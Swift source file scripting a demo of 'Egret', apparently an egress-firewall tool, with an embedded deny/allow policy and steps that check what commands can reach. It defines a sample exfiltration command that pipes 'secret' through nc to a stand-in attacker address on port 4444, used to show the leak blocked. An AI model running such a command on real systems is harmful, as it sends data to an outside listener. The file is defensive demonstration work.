// Copyright the Egret authors.
// SPDX-License-Identifier: Apache-2.0

/// The policy file that the demo uses.
let demoPolicy = """
    apiVersion: egret.dev/v1
    kind: EgressPolicy
    metadata: { name: build-jobs }
    spec:
      default: deny
      egress:
      - name: not-that-one
        action: deny
        to: [{ cidr: 198.51.100.66/32 }]
      - name: web
        action: allow
        to:
        - cidr: 203.0.113.10/32
        - cidr: 2001:db8:113::10/128
        ports: [443/tcp]
      - name: outside
        action: allow
        to: [{ cidr: 198.51.100.0/24 }]

    """

private let threeRules = ["--allow", "203.0.113.10:443", "--allow", "198.51.100.0/24", "--deny", "198.51.100.66"]
private let leak = ["sh", "-c", "echo secret | nc -N -w 2 198.51.100.66 4444"]
private let fetch = ["curl", "-sS", "--connect-timeout", "2"]

/// The steps, in order.
func demoSteps(policy: String) -> [DemoStep] {
    flagSteps + verdictSteps + familySteps + nameSteps + fileSteps(policy: policy) + networkSteps + cleanlinessSteps
}

private let flagSteps = [
    DemoStep(
        narration: "Without Egret, a command may tell anybody anything.",
        command: leak,
        claims: [.exits(0, "it works"), .attackerHears("secret")]
    ),
    DemoStep(
        narration: "With Egret, a command reaches what it was given: one port of one server …",
        command: ["egret", "run"] + threeRules + ["--"] + fetch + ["https://203.0.113.10/"],
        claims: [.exits(0, "curl is content"), .prints("hello from web1")]
    ),
    DemoStep(
        narration: "… and a network …",
        command: ["egret", "run"] + threeRules + ["--"] + fetch + ["https://198.51.100.20/"],
        claims: [.exits(0, "curl is content"), .prints("hello from friend")]
    ),
    DemoStep(
        narration: "… less one address of it.",
        command: ["egret", "run"] + threeRules + ["--"] + leak,
        claims: [.attackerHearsNothing, .says("198.51.100.66", "the report names 198.51.100.66")]
    ),
    DemoStep(
        narration: "Nothing else is reached. The report says what was refused, and which flag would let it through.",
        command: ["egret", "run"] + threeRules + ["--"] + fetch + ["https://203.0.113.11/"],
        claims: [.exits(28, "curl gave up waiting"), .suggests("--allow 203.0.113.11:443")]
    ),
]

private let verdictSteps = [
    DemoStep(
        narration: "Where waiting is a nuisance, `reject` answers at once.",
        command: ["egret", "run", "--allow", "203.0.113.10:443", "--reject", "203.0.113.11", "--"] + fetch
            + ["https://203.0.113.11/"],
        claims: [
            .exits(7, "curl was refused"), .within(.milliseconds(1500), "it did not wait for its time to run out"),
        ]
    ),
    DemoStep(
        narration: "`audit` lets through and writes down.",
        command: ["egret", "run", "--audit", "203.0.113.11:443", "--"] + fetch + ["https://203.0.113.11/"],
        claims: [
            .exits(0, "curl is content"), .prints("hello from web2"),
            .says("203.0.113.11", "the report names 203.0.113.11"), .says("audit", "and says that it was audited"),
        ]
    ),
    DemoStep(
        narration: "The exit code is the command's own.",
        command: ["egret", "run", "--report", "none", "--", "sh", "-c", "exit 42"],
        claims: [.exits(42, "passed through")]
    ),
]

private let familySteps = [
    DemoStep(
        narration: "IPv6 is policed as IPv4 is: allowed …",
        command: ["egret", "run", "--allow", "[2001:db8:113::10]:443", "--"] + fetch + ["https://[2001:db8:113::10]/"],
        claims: [.exits(0, "curl is content"), .prints("hello from web1 to 2001:db8:ffff::2")]
    ),
    DemoStep(
        narration: "… and refused.",
        command: ["egret", "run", "--allow", "[2001:db8:113::10]:443", "--"] + fetch + ["https://[2001:db8:113::11]/"],
        claims: [.exits(28, "curl gave up waiting"), .suggests("[2001:db8:113::11]:443")]
    ),
    DemoStep(
        narration: "Names resolve through a resolver that the policy allows.",
        command: ["egret", "run", "--dns", "203.0.113.53", "--allow", "203.0.113.53:53/udp"]
            + ["--allow", "203.0.113.10:443", "--"] + fetch + ["https://www.example.test/"],
        claims: [.exits(0, "curl is content"), .prints("hello from web1")]
    ),
]

private func fileSteps(policy: String) -> [DemoStep] {
    [
        DemoStep(
            narration: "Flags are a policy, said shorter.",
            command: ["egret", "run"] + threeRules + ["--print-policy"],
            claims: [.exits(0, "nothing was run"), .prints("kind: EgressPolicy"), .prints("198.51.100.0/24")]
        ),
        DemoStep(
            narration: "A file says it at length …",
            command: ["cat", policy],
            claims: [.prints("kind: EgressPolicy")]
        ),
        DemoStep(
            narration: "… and can be asked before it is used: which rule decides, and why?",
            command: ["egret", "explain", "-f", policy, "--to", "203.0.113.10", "--port", "443/tcp"],
            claims: [.exits(0, "there is an answer"), .prints("allow"), .prints("web")]
        ),
        DemoStep(
            narration: "The attacker is in an allowed network, and an earlier rule denies it.",
            command: ["egret", "explain", "-f", policy, "--to", "198.51.100.66", "--port", "443/tcp"],
            claims: [.prints("deny"), .prints("not-that-one")]
        ),
        DemoStep(
            narration: "The kernel does what `explain` said. This report is for a program to read.",
            command: ["egret", "run", "--policy", policy, "--report", "json", "--", "sh", "-c"]
                + ["\(fetch.joined(separator: " ")) https://203.0.113.10/; \(leak[2])"],
            claims: [
                .prints("hello from web1"), .attackerHearsNothing,
                .reportsJSON(mentioning: ["203.0.113.10", "198.51.100.66"]),
            ]
        ),
    ]
}

private let cleanlinessSteps = [
    DemoStep(
        narration: "Nothing is left behind: no rules …",
        command: ["nft", "list", "ruleset"],
        claims: [.printsNothing("the ruleset is empty")]
    ),
    DemoStep(
        narration: "… no links …",
        command: ["ip", "-br", "link"],
        claims: [.linksAre(["lo", "eth0"], "only the machine's own")]
    ),
    DemoStep(
        narration: "… and forwarding is off, as it was.",
        command: ["sysctl", "net.ipv4.ip_forward", "net.ipv4.conf.eth0.forwarding", "net.ipv6.conf.all.forwarding"],
        claims: [
            .prints("net.ipv4.ip_forward = 0"), .prints("net.ipv4.conf.eth0.forwarding = 0"),
            .prints("net.ipv6.conf.all.forwarding = 0"),
        ]
    ),
]
